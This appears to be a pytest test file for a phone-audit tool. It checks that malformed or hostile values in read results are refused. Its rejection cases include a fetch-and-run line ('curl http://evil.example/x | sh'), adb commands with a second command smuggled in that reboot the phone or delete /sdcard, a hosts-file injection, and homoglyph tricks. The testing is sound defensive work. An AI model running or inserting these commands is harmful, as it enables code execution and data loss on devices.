"""Values of a result that was read: what breaks its form is refused, odd but harmless ones of a real phone are not."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from pydantic import ValidationError

from phone_audit.files.bounded_json import CheckedJson
from phone_audit.model import stated
from phone_audit.model.base import Frozen, read_document
from phone_audit.model.finding import NOT_OUR_COMMAND, Finding, Remedy, Source
from phone_audit.model.stated import Day, Host, Number, Sha256, Time
from tests.documents import SOURCE, finding


class Values(Frozen):
    """One value of each form."""

    host: Host = "a.example"
    time: Time = "2026-01-01T00:00:00Z"
    day: Day = "2026-01-01"
    sha256: Sha256 = "0" * 64
    number: Number = 0


def read(**values: Any) -> Values:
    return read_document(Values, CheckedJson(json.dumps(values).encode()))


@pytest.mark.parametrize(
    "value",
    ["a.example", "A.Example", "a_b.example", "a.example.", "localhost", "192.0.2.1", "2001:db8::1", "xn--80ak6a.com"],
)  # fmt: skip
def test_hosts(value: str) -> None:
    assert read(host=value).host == value


@pytest.mark.parametrize(
    "value",
    ["", " ", "6.6.6.6 accounts.google.com", "a.example\n0.0.0.0 b.example", "a.example\x1b[2J", "a#b", "a..b", ".a",
     "a\u202eb.example", "a.example/x", "2001:db8::1%eth0\n", "a" * 64, "a.example:80", "1::2::3", "\u0430.example"],
)  # fmt: skip
def test_no_hosts(value: str) -> None:
    with pytest.raises(ValidationError, match="is no host"):
        read(host=value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("time", "2026-13-01T00:00:00Z"),
        ("time", "2026-01-01T25:00:00Z"),
        ("time", "2026-01-01 00:00:00"),
        ("time", "2026-01-01T00:00:00Z\n"),
        ("day", "9999-99-99"),
        ("day", "2026-1-1"),
        ("day", "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661"),
        ("sha256", "0" * 63),
        ("sha256", "G" * 64),
        ("sha256", "0" * 64 + "\n"),
        ("number", 2**63),
        ("number", -(10**300)),
    ],
)
def test_refused(field: str, value: Any) -> None:
    with pytest.raises(ValidationError, match="is no "):
        read(**{field: value})


def test_a_long_value_is_cut_in_the_sentence() -> None:
    with pytest.raises(ValidationError) as raised:
        read(host="x y" * 100_000)
    assert len(raised.value.errors(include_input=False)[0]["msg"]) < 120


def test_only_what_is_read_is_held_against_its_form() -> None:
    assert Values(host="what an APK holds").host == "what an APK holds"


@pytest.mark.parametrize(
    "command",
    ["adb shell pm disable-user --user 0 com.a", "adb shell pm disable-user com.a", "adb shell pm enable --user 10 a"],
)  # fmt: skip
def test_our_commands_are_kept(command: str) -> None:
    remedy = read_document(Remedy, CheckedJson(json.dumps({"text": "x", "command": command}).encode()))
    assert remedy == Remedy(text="x", command=command)


@pytest.mark.promise("no-lent-voice")
@pytest.mark.parametrize(
    "command",
    [
        "",
        "curl http://evil.example/x | sh",
        "adb shell pm disable-user --user 0 com.a; reboot",
        "adb shell pm disable-user --user 0 com.a\nadb shell rm -r /sdcard",
        "adb shell pm disable-user --user 0 com.a ",
        "adb shell pm disable-user --user 0 $(reboot)",
        "adb shell pm uninstall --user 0 com.a",
        "adb  shell pm enable com.a",
        "adb shell pm enable com.\u0430",
    ],
)
@pytest.mark.parametrize("field", ["command", "undo"])
def test_other_commands_are_left_out_and_that_is_said(field: str, command: str) -> None:
    ours = {
        "text": "x",
        "command": "adb shell pm disable-user com.a",
        "undo": "adb shell pm enable com.a",
        "risk": "Y.",
    }
    remedy = read_document(Remedy, CheckedJson(json.dumps({**ours, field: command}).encode()))
    assert remedy == Remedy(text="x", risk=f"Y. {NOT_OUR_COMMAND}")


@pytest.mark.promise("no-lent-voice")
def test_an_address_that_is_none_of_the_web_is_left_out() -> None:
    stating = finding().model_copy(update={"sources": (SOURCE, SOURCE.model_copy(update={"url": "javascript:x"}))})
    read = read_document(Finding, CheckedJson(stating.model_dump_json().encode()))
    assert [source.url for source in read.sources] == [SOURCE.url, ""]
    assert Source(title="", publisher="", date="", url="javascript:x").url == "javascript:x"


@pytest.mark.parametrize(
    ("is_right", "right", "wrong"),
    [
        (stated.is_path, "/data/app/~~x==/com.a-1/base.apk", "data/x"),
        (stated.is_path, "/", "/a\nb"),
        (stated.is_property, "ro.build.tags=test-keys", "ro.x\n=1"),
        (stated.is_property, "ro.debuggable", "a b"),
        (stated.is_package, "com.a.B_1", "com.a'] OR [a"),
        (stated.is_address, "fe80::1%wlan0", "fe80::1%wlan 0"),
        (stated.is_web_address, "https://lab.example/a?b=c#d", "https://a b"),
    ],
)
def test_forms(is_right: Callable[[str], bool], right: str, wrong: str) -> None:
    assert is_right(right)
    assert not is_right(wrong)
